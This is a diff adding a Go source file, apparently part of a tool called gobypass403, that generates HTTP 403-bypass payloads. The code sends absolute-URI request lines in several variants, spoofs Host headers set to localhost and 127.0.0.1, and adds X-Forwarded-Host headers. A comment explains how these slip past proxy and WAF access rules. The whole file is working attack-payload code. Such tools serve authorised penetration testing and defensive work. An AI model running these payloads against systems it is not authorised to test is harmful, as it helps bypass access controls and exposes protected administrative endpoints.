@@ -0,0 +1,123 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateHTTPAbsoluteURIPayloads generates payloads sending the request line in absolute form
+(GET http://example.com/admin HTTP/1.1) instead of a path, and X-Forwarded-Host variants.
+
+Per RFC 9112 a server must accept an absolute URI and ignore the Host header when it gets one,
+but proxies and WAFs often match ACLs on the path only, or route on the Host header while the
+backend uses the host of the request line.
+
+For a URL like https://example.com/admin, it creates:
+1. Absolute URI request line, Host header unchanged:
+  - GET https://example.com/admin
+  - GET http://example.com/admin (other scheme)
+  - GET https://example.com:443/admin (explicit port)
+  - GET HTTPS://EXAMPLE.COM/admin (upper case scheme and host)
+
+2. Absolute URI request line, Host header pointing elsewhere:
+  - GET https://example.com/admin + Host: localhost
+  - GET https://example.com/admin + Host: 127.0.0.1
+
+3. X-Forwarded-Host header, origin-form request line:
+  - X-Forwarded-Host: localhost, 127.0.0.1, example.com, example.com:443
+
+4. Absolute URI request line with X-Forwarded-Host:
+  - GET https://example.com/admin + X-Forwarded-Host: localhost
+
+The request is always sent to the original host, the original path and query string are
+preserved in all generated payloads.
+*/
+func (pg *PayloadGenerator) GenerateHTTPAbsoluteURIPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	hostname := parsedURL.Hostname
+	if hostname == "" {
+		return allJobs
+	}
+
+	pathAndQuery := parsedURL.Path
+	if pathAndQuery == "" {
+		pathAndQuery = "/"
+	}
+	if parsedURL.Query != "" {
+		pathAndQuery += "?" + parsedURL.Query
+	}
+
+	// Port the original Host header would carry, or the scheme default
+	port := parsedURL.Port
+	if port == "" {
+		port = "80"
+		if parsedURL.Scheme == "https" {
+			port = "443"
+		}
+	}
+	otherScheme := "https"
+	if parsedURL.Scheme == "https" {
+		otherScheme = "http"
+	}
+
+	absoluteURI := parsedURL.Scheme + "://" + parsedURL.Host + pathAndQuery
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       pathAndQuery,
+		BypassModule: bypassModule,
+	}
+
+	seen := make(map[string]struct{})
+	addJob := func(rawURI string, headers ...Headers) {
+		key := rawURI
+		for _, h := range headers {
+			key += "\n" + h.Header + ": " + h.Value
+		}
+		if _, ok := seen[key]; ok {
+			return
+		}
+		seen[key] = struct{}{}
+
+		job := baseJob
+		job.RawURI = rawURI
+		job.Headers = headers
+		job.PayloadToken = GeneratePayloadToken(job)
+		allJobs = append(allJobs, job)
+	}
+
+	// 1. Absolute URI request line
+	addJob(absoluteURI)
+	addJob(otherScheme + "://" + parsedURL.Host + pathAndQuery)
+	addJob(parsedURL.Scheme + "://" + hostname + ":" + port + pathAndQuery)
+	addJob(strings.ToUpper(parsedURL.Scheme) + "://" + strings.ToUpper(parsedURL.Host) + pathAndQuery)
+
+	// 2. Absolute URI request line, Host header pointing elsewhere
+	for _, host := range []string{"localhost", "127.0.0.1"} {
+		addJob(absoluteURI, Headers{Header: "Host", Value: host})
+	}
+
+	// 3. X-Forwarded-Host, origin-form request line
+	for _, host := range []string{"localhost", "127.0.0.1", hostname, hostname + ":" + port} {
+		addJob(pathAndQuery, Headers{Header: "X-Forwarded-Host", Value: host})
+	}
+
+	// 4. Absolute URI request line with X-Forwarded-Host
+	addJob(absoluteURI, Headers{Header: "X-Forwarded-Host", Value: "localhost"})
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}